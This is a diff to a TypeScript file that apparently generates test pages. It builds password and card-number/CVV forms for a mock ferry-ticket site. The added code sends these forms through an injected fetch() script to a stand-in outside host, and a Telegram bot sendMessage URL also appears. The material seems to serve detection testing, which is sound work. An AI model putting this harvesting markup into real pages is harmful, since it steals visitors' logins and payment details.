@@ -4,7 +4,13 @@ import { site } from "./innocent-site.ts"
 const ours = "Ferry tickets to Skerry"
 const elsewhere = "https://gather.example/"
 const chat = "https://api.telegram.org/bot1:A/sendMessage"
-const form = (action: string, fields: string) => `<form action="${action}" method="post">${fields}</form>`
+/** To another site by a script that reads the answer: so the receiver alone is against it. */
+export const sentByScript = (to: string, fields: string) =>
+  `<form id="f">${fields}</form><script>fetch("${to}",{method:"POST",body:new FormData(f)}).then((r)=>r.json())</script>`
+const form = (action: string, fields: string) =>
+  action.startsWith(elsewhere)
+    ? sentByScript(action, fields)
+    : `<form action="${action}" method="post">${fields}</form>`
 const login = (action: string) => form(action, `<input type="password" name="p">`)
 const card = (action: string) => form(action, `<input name="cardnumber"><input name="cvv">`)
 const masked = (action: string) =>
